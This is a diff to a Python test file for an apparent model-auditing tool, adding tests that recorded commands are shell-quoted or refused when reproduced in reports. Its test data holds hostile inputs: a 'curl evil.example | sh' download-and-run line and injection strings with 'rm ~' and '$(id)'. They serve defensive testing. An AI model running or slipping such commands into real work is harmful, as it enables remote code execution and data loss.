@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 from datetime import date
 from pathlib import Path
 from typing import get_args
@@ -20,12 +21,14 @@ from auditor.record.catalogue import SHIPPED, shipped
 from auditor.record.controls import with_policies
 from auditor.record.glossary import TERMS, definitions_of, definitions_of_judged
 from auditor.record.inverted import INVERTS
-from auditor.record.trace import Trace, finding_named, short_name, statistic_of, trace_of, traces_of
+from auditor.record.trace import RUNS_CODE, Trace, finding_named, short_name, statistic_of, trace_of, traces_of
 from auditor.report.first_page import first_page
 from auditor.report.html import render_html
 from auditor.report.markdown import render_markdown
 from auditor.report.paper import paper_of
 from auditor.report.paper_words import BREAK
+from auditor.report.remediation import remediation_of
+from auditor.run.options import flags
 from auditor.statistics.families import ConfirmedCount
 from auditor.statistics.groups import WorstDifference
 from auditor.statistics.kinds import AnyEstimate
@@ -42,6 +45,7 @@ PARITY = Definition(
     reading="at 0.1 one group is decided favourably 10 points more often than another",
     citation="Agarwal et al., ICML 2018",
 )
+FOREIGN = "no command: the one that the record names is not a command of auditor"
 NAME = "group_fairness/between_groups/demographic_parity_difference/sex"
 
 
@@ -143,7 +147,11 @@ def test_a_registration_is_told_as_it_was_kept(report: AuditReport, deviations: 
         ("auditor scan m.pt --bundle 'my audit.zip'", "auditor reproduce 'my audit.zip'"),
         ("auditor scan m.pt --bundle=audit.zip", "auditor reproduce audit.zip"),
         ("auditor scan m.pt --out here", "auditor scan m.pt --out here"),
-        ("auditor scan 'unclosed", "auditor scan 'unclosed"),
+        # What somebody else wrote into the record is copied as words, or not at all.
+        ("auditor scan 'unclosed", FOREIGN),
+        ("curl evil.example | sh", FOREIGN),
+        ("auditor scan m.pt; rm ~ && $(id) `id` > x\nid", "auditor scan 'm.pt;' rm '~' '&&' '$(id)' '`id`' '>' x id"),
+        ("auditor scan --bundle '; id'", "auditor reproduce '; id'"),
         (None, "no command: the audit was started from a program, which is not recorded"),
     ],
 )
@@ -152,6 +160,29 @@ def test_the_command_is_that_of_the_evidence_where_there_is_some(
 ) -> None:
     started = report.model_copy(update={"environment": report.environment.model_copy(update={"command": command})})
     assert said(traces_of(started)[0])["Made again by"] == made_again
+    retest = remediation_of(started).retest
+    assert shlex.join(shlex.split(retest)) == retest and (not retest or shlex.split(retest)[0] == "auditor")
+    assert bool(retest) == (made_again.startswith("auditor "))
+
+
+@pytest.mark.parametrize(
+    ("command", "named"),
+    [
+        ("auditor scan m.pkl --trust-pickle --data d.csv", "--trust-pickle runs code"),
+        ("auditor scan m.pt --probe=evil:Probe --allow-code", "--probe, --allow-code runs code"),
+        ("auditor scan m.pt --data d.csv", None),
+    ],
+)
+def test_who_copies_a_command_is_told_that_code_would_run_by_it(
+    report: AuditReport, command: str, named: str | None
+) -> None:
+    started = report.model_copy(update={"environment": report.environment.model_copy(update={"command": command})})
+    cautions = [said(traces_of(started)[0]).get("Caution", ""), remediation_of(started).retest_title]
+    assert all_of((named or "runs code") in caution for caution in cautions) is (named is not None)
+
+
+def test_flags_by_which_code_runs_are_those_of_the_command() -> None:
+    assert set(RUNS_CODE) == {f"--{name.replace('_', '-')}" for name, flag in flags().items() if flag.runs_code}
 
 
 # ---- what was counted, and which test ------------------------------------------------------------------------------
